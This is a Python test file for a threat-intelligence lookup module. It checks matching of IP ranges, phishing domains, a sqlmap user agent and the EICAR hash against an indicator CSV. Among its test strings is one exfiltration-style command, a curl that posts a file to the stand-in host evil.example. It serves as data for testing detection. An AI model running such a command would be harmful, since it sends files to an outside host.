import pytest

from wheeltapper.enrich.intel import Intel
from wheeltapper.enrich.network import address
from wheeltapper.errors import ConfigError

MD5 = "44d88612fea8a8f36de82e1278abb02f"
LIST = f"""\
value,kind,name
198.51.100.0/24,ip,botnet
198.51.100.7,ip,control server
Evil.example.,domain,phish
sqlmap/1.7,user_agent,
{MD5.upper()},hash,EICAR
"""


@pytest.fixture
def intel(tmp_path):
    path = tmp_path / "intel.csv"
    path.write_text(LIST)
    return Intel(path)


def test_addresses(intel):
    asked = ("198.51.100.7", "198.51.100.8", "198.51.101.1", "2001:db8::1")
    found = [intel.ip(address(ip)) for ip in asked]
    assert found == ["control server", "botnet", None, None]
    assert intel.ip(None) is None


def test_user_agents_are_compared_whole(intel):
    assert intel.user_agent(" SQLMap/1.7 ") == "sqlmap/1.7"
    assert intel.user_agent("sqlmap/1.7.2") is None


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("evil.example", "phish"),
        ("https://www.EVIL.example/login?x=1", "phish"),
        ("kim@mail.evil.example", "phish"),
        ("curl -d @x 'http://evil.example:8080'", "phish"),
        ("notevil.example", None),
        ("evil.example.org", None),
        ("example", None),
        (f"certutil -hashfile x {MD5}", "EICAR"),
        (f"{MD5}00", None),
        ("", None),
        ("." * 1_000_000, None),
        ("a." * 500_000, None),
    ],
    ids=range(12),
)
def test_domains_and_hashes_within_text(intel, text, want):
    assert intel.text(text) == want


def test_without_a_list_nothing_is_found():
    intel = Intel(None)
    assert not intel
    assert not intel.searches_text
    assert intel.ip(address("198.51.100.7")) is None


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("value,kind\n", r"intel\.csv:1: column name is missing"),
        ("value,kind,name\nx,url,\n", r"csv:2: kind 'url' must be one of ip, domain"),
        ("value,kind,name\n,ip,x\n", r"csv:2: value is empty"),
        ("value,kind,name\n\nexample,ip,x\n", r"csv:3: 'example' is no address or network"),
        ("value,kind,name\nabc,hash,x\n", r"csv:2: 'abc' is no MD5, SHA-1 or SHA-256"),
    ],
    ids=range(5),
)
def test_a_wrong_entry_is_named_with_its_line(tmp_path, text, words):
    path = tmp_path / "intel.csv"
    path.write_text(text)
    with pytest.raises(ConfigError, match=words):
        Intel(path)
